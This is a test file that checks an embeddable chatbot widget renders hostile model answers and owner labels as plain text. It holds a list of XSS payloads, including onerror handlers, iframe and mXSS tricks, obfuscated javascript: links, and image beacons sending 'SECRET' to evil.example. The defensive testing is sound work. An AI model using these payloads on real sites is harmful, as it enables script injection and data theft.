import { expect, test } from 'vitest'
import { createPublishedBot } from '../harness/server-process.ts'
import { setModelStage } from '../harness/stage.ts'
import { findWidget } from '../harness/widget.ts'
import { toPage } from '../harness/widget-page.ts'

const evil = 'https://evil.example'
const hostile = [
  `<img src=x onerror="window.hit=1"><svg onload="window.hit=2"></svg>`,
  `<iframe srcdoc="<script>parent.hit=3</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=4&gt;">`,
  `[x](javascript:window.hit=5) [y](JaVa\tScRiPt:window.hit=6) [z](data:text/html,<script>window.hit=7</script>)`,
  `[a]: javascript:window.hit=8\n[a] [b](vbscript:x) <javascript:window.hit=9>`,
  `![q](${evil}/?q=SECRET) ![r][pic] <img src="${evil}/html">\n\n[pic]: ${evil}/reference`,
  '```html\n<img src=x onerror="window.hit=10">\n```',
  `| <img src=${evil}/table> | ![c](${evil}/cell) |\n|---|---|\n| [d](javascript:1) | \`<script>\` |`,
  '&#106;avascript:window.hit=11 [e](&#106;avascript:window.hit=12) </script><script>window.hit=13</script>',
].join('\n\n')

const stage = setModelStage()

async function ask(pieces: string[], botId: string) {
  stage.upstream.answerWith(pieces)
  stage.site.show(toPage({ host: stage.server.url, options: { config: { bot_id: botId } } }))
  await stage.visit()
  await stage.watched.page.goto(stage.site.url)
  const widget = findWidget(stage.watched.page)
  await widget.open()
  await widget.ask('Show me')
  await widget.waitForText('the end')
  await widget.waitForIdle()
  return widget
}

const foreignRequests = () =>
  stage.watched.requests.filter(
    (url) => ![stage.server.url, stage.site.url, 'data:'].some((own) => url.startsWith(own)),
  )

// proves: hostile.11, hostile.12, hostile.13, hostile.16
test('11-13, 16. hostile answers run nothing and send nothing, whole or one character at a time', async () => {
  const botId = await createPublishedBot(stage.server)
  const text = `${hostile}\n\nthe end`
  for (const pieces of [[text], [...text]]) {
    const widget = await ask(pieces, botId)

    expect(await stage.watched.page.evaluate('window.hit')).toBeUndefined()
    expect(await widget.log.locator('img, iframe, script, svg image, style, math, object').count()).toBe(0)
    const links = await widget.log
      .locator('a')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
    expect(links.every((protocol) => ['https:', 'http:', 'mailto:', 'tel:'].includes(protocol))).toBe(true)
    expect(foreignRequests()).toEqual([])
    expect(stage.watched.complaints).toEqual([])
    await stage.watched.context.close()
  }
})

// proves: hostile.17
test('17. names, questions and sources that hold markup are shown as words', async () => {
  const label = '<img src=x onerror=window.hit=1>'
  const botId = await createPublishedBot(stage.server, {
    name: '<b>Agent</b>',
    onboarding_info: { prologue: `${label} </script>`, suggested_questions: [label, 'javascript:window.hit=2'] },
    knowledge: { texts: [{ title: label, text: `Show me the end. ${label}`, url: 'javascript:window.hit=3' }] },
  })
  const widget = await ask(['the end'], botId)

  expect(await stage.watched.page.evaluate('window.hit')).toBeUndefined()
  expect(await widget.window.locator('img, script').count()).toBe(0)
  await stage.watched.page.reload()
  await widget.open()
  await widget.window.getByText(label).first().waitFor()
  expect(await stage.watched.page.evaluate('window.hit')).toBeUndefined()
  expect(stage.watched.complaints).toEqual([])
})

// proves: hostile.17
test('17. every label a page or an owner can write is shown as words and asks for nothing', async () => {
  const label = '<img src=x onerror=window.hit=1></script>'
  const botId = await createPublishedBot(stage.server, {
    name: '<i>Agent</i>',
    onboarding_info: { prologue: `{{user_name}} ${label}`, suggested_questions: [label] },
    shortcut_commands: [
      { id: '1', name: label, command: '/x', query_template: label, icon_url: 'javascript:window.hit=3' },
    ],
  })
  const options = {
    config: { bot_id: botId },
    userInfo: { id: 'u', nickname: label, url: 'javascript:window.hit=4' },
    ui: {
      base: { icon: 'javascript:window.hit=5', greeting: { text: label, delayMs: 1, show: 'always' } },
      chatBot: {
        title: label,
        feedback: {
          isNeedFeedback: true,
          feedbackPanel: { title: label, placeholder: label, tags: [{ label: '<b onclick=1>' }] },
        },
      },
      footer: {
        expressionText: `${label} {{evil}}`,
        linkvars: { evil: { text: label, link: 'javascript:window.hit=6' } },
      },
      conversations: { isNeed: true },
    },
  }
  stage.upstream.answerWith(['the end'])
  stage.site.show(
    toPage({
      host: stage.server.url,
      options: {},
      script: `window.client = new CozeWebSDK.WebChatClient(${JSON.stringify(options).replaceAll('<', '\\u003c')})`,
    }),
  )
  await stage.visit()
  const { page } = stage.watched
  await page.goto(stage.site.url)
  await page.getByRole('status').getByText(label).first().waitFor()
  await page.evaluate('client.open()')
  const widget = findWidget(page)
  await widget.input.waitFor()
  await widget.log.getByRole('button', { name: label }).click()
  await widget.waitForText('the end')
  await widget.waitForIdle()
  await widget.window.getByRole('button', { name: 'Bad answer' }).click()
  await widget.log.getByRole('form', { name: label }).waitFor()
  await widget.window.getByRole('button', { name: 'Conversations' }).click()
  await page.locator('.rows li').getByText(label).first().waitFor()

  expect(await page.evaluate('window.hit')).toBeUndefined()
  expect(await page.getByRole('dialog').first().locator('img, script, [onerror], [onload], [onclick]').count()).toBe(0)
  expect(await page.locator('a[href^=javascript]').count()).toBe(0)
  expect(foreignRequests()).toEqual([])
  expect(stage.watched.complaints).toEqual([])
})
